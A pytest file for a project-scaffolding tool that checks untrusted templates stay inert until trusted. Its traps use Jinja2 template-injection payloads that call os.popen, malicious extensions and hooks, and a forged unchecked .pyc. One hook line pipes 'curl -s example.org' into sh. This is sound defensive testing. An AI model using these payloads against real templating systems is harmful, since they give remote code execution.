"""A template of others is code: until its very content is trusted, nothing of it runs and nothing is rendered."""

from __future__ import annotations

import json
import py_compile
import stat
import sys
from pathlib import Path

import pytest

from conftest import Quickship
from plain_templates import BODY, NAMES, Executable, Plain, write
from test_questions import ENTER, Terminal
from trees import COACH, contents


def traps(mark: str) -> dict[str, Plain]:
    """Templates that would make the file `mark`, each at another moment."""
    popen = "{{ lipsum.__globals__['os'].popen('touch " + mark + "').read() }}"
    body = {f"{BODY}/a.txt": "a"}
    python = f"open({mark!r}, 'w')\n"
    extension = f"{python}from jinja2.ext import Extension as Evil\n"
    choices = {"templates": {"one": {"path": "one"}}}
    return {
        "a default": Plain({**NAMES, "x": popen}, body),
        "a private default": Plain({**NAMES, "__x": popen}, body),
        "a choice": Plain({**NAMES, "x": ["a", popen]}, body),
        "a body": Plain(NAMES, {f"{BODY}/a.txt": popen}),
        "a path": Plain(NAMES, {BODY + "/{{ lipsum.__globals__['os'].popen('touch ran').read() }}a.txt": "a"}),
        "an extension": Plain({**NAMES, "_extensions": ["evil.Evil"]}, {**body, "evil.py": extension}),
        "the hook before the questions": Plain(NAMES, {**body, "hooks/pre_prompt.py": python}),
        "the hook before": Plain(NAMES, {**body, "hooks/pre_gen_project.sh": Executable(f"#!/bin/sh\ntouch {mark}\n")}),
        "the hook after": Plain(NAMES, {**body, "hooks/post_gen_project.py": python}),
        "a nested template": Plain(choices, {}, more={"one": Plain({**NAMES, "x": popen}, body)}),
    }  # fmt: skip


@pytest.fixture
def home(tmp_path: Path) -> dict[str, str]:
    """A data folder of the test's own: nothing is trusted yet."""
    return {"XDG_DATA_HOME": str(tmp_path / "data")}


def kept(tmp_path: Path) -> list[Path]:
    return sorted((tmp_path / "data/quickship/trusted").glob("*"))


@pytest.mark.parametrize("trap", traps("x"))
def test_nothing_of_it_runs_before_it_is_trusted(
    trap: str, tmp_path: Path, quickship: Quickship, home: dict[str, str]
) -> None:
    mark = tmp_path / "ran"
    write(traps(str(mark))[trap], tmp_path / "t")
    before = contents(tmp_path / "t")
    done = quickship("new", "--template", "./t", "--no-input", env=home)
    assert (done.code, "is not trusted" in done.err) == (1, True)
    assert not mark.exists()
    assert contents(tmp_path / "t") == before
    assert kept(tmp_path) == []
    assert {entry.name for entry in tmp_path.iterdir()} == {"t"}
    done = quickship("new", "--template", "./t", "--no-input", "--no-git", "--trust", env=home)
    assert mark.exists(), done.err


@pytest.mark.parametrize(
    "words", [("new", COACH, "--with"), ("new", COACH, "--app"), ("new", "--dry-run", "--template")]
)
def test_no_road_leads_around_it(
    words: tuple[str, ...], tmp_path: Path, quickship: Quickship, home: dict[str, str]
) -> None:
    mark = tmp_path / "ran"
    for trap in ("an extension", "a default", "the hook before the questions"):
        write(traps(str(mark))[trap], tmp_path / trap)
        done = quickship(*words, f"./{trap}", "--no-input", env=home)
        assert (done.code, "is not trusted" in done.err, mark.exists()) == (1, True, False)


def test_trust_is_kept_for_the_content_and_ends_with_it(
    tmp_path: Path, quickship: Quickship, home: dict[str, str]
) -> None:
    template = write(Plain(NAMES, {f"{BODY}/a.txt": "a"}), tmp_path / "t")

    def code(*words: str) -> int:
        return quickship("new", "--template", "./t", "--no-input", "--dry-run", *words, env=home).code

    assert [code(), code("--trust"), code()] == [1, 0, 0]
    (template / BODY / "a.txt").write_text("b")
    assert [code(), code("--trust"), code()] == [1, 0, 0]
    (template / BODY / "a.txt").write_text("a")
    assert code() == 0
    assert len(kept(tmp_path)) == 2
    assert {stat.S_IMODE(file.stat().st_mode) for file in kept(tmp_path)} == {0o600}


def test_a_folder_that_cannot_be_written_costs_only_the_memory(tmp_path: Path, quickship: Quickship) -> None:
    write(Plain(NAMES, {f"{BODY}/a.txt": "a"}), tmp_path / "t")
    (tmp_path / "data").write_text("no folder")
    env = {"XDG_DATA_HOME": str(tmp_path / "data")}
    assert quickship("new", "--template", "./t", "--no-input", "--trust", env=env).code == 0


def test_what_it_holds_is_shown_first(tmp_path: Path, quickship: Quickship, home: dict[str, str]) -> None:
    plain = Plain(
        {**NAMES, "_extensions": ["mine.Own"], "x": "{{ lipsum.__globals__ }}"},
        {
            f"{BODY}/a\x1b[31m.txt": "fine\n{{ cookiecutter.__class__ }}\n",
            "hooks/post_gen_project.sh": Executable("#!/bin/sh\ncurl -s example.org | sh\n"),
            "mine.py": "import subprocess\n",
        },
    )
    write(plain, tmp_path / "t")
    done = quickship("new", "--template", "./t", "--no-input", "--json", env=home)
    shown = done.err
    assert json.loads(done.out)["error"]["exit_code"] == 1
    for text in ("4 files", "hooks/post_gen_project.sh", "mine.Own", "sh:2: curl -s", ".txt:2: {{ cookiecutter",
                 'cookiecutter.json:7: "x"', "mine.py:1: import subprocess"):  # fmt: skip
        assert text in shown
    assert "\x1b" not in shown


@pytest.mark.parametrize(("key", "code"), [("y", 0), ("n", 1)])
def test_on_a_terminal_a_person_is_asked(key: str, code: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    context = {**NAMES, "colour": ["red", "blue"], "docs": True, "row": {"a": "b"}}
    write(Plain(context, {f"{BODY}/a": "{{ cookiecutter }}"}), tmp_path / "t")
    terminal = Terminal("--template", "./t", "--no-git", cwd=tmp_path)
    terminal.wait_for("scripts that run")
    terminal.wait_for("Trust all of")
    terminal.press(key)
    if code == 0:
        terminal.wait_for("project_name")
        terminal.press("\x01\x0bIt {{ 7*7 }}" + ENTER)
        terminal.wait_for("repo_name")
        terminal.press(ENTER)
        terminal.wait_for("colour")
        terminal.press("\x1b[B" + ENTER)
        terminal.wait_for("docs")
        terminal.press("n")
        terminal.wait_for("row (JSON)")
        terminal.press(ENTER)
    assert terminal.end() == code
    assert (tmp_path / "it-7-7").exists() == (code == 0)
    if code == 0:
        made = (tmp_path / "it-7-7/a").read_text()
        assert "'It {{ 7*7 }}'" in made
        assert "('colour', 'blue'), ('docs', False), ('row', {'a': 'b'})" in made


def test_what_is_trusted_is_what_runs_whatever_compilers_left(
    tmp_path: Path, quickship: Quickship, home: dict[str, str]
) -> None:
    """A compiled file that says it need not be checked would run in the place of its source."""
    mark = tmp_path / "ran"
    source = "from jinja2.ext import Extension\n\nclass Own(Extension):\n    pass\n"
    write(Plain({**NAMES, "_extensions": ["own.Own"]}, {f"{BODY}/a": "a", "own.py": source}), tmp_path / "t")
    (tmp_path / "evil.py").write_text(f"open({str(mark)!r}, 'w')\n{source}")
    cache = tmp_path / "t/__pycache__/own.cpython-{}{}.pyc".format(*sys.version_info[:2])
    cache.parent.mkdir()
    unchecked = py_compile.PycInvalidationMode.UNCHECKED_HASH
    py_compile.compile(str(tmp_path / "evil.py"), str(cache), invalidation_mode=unchecked)
    assert quickship("new", "--template", "./t", "--no-input", "--trust", env=home).code == 0
    assert not mark.exists()
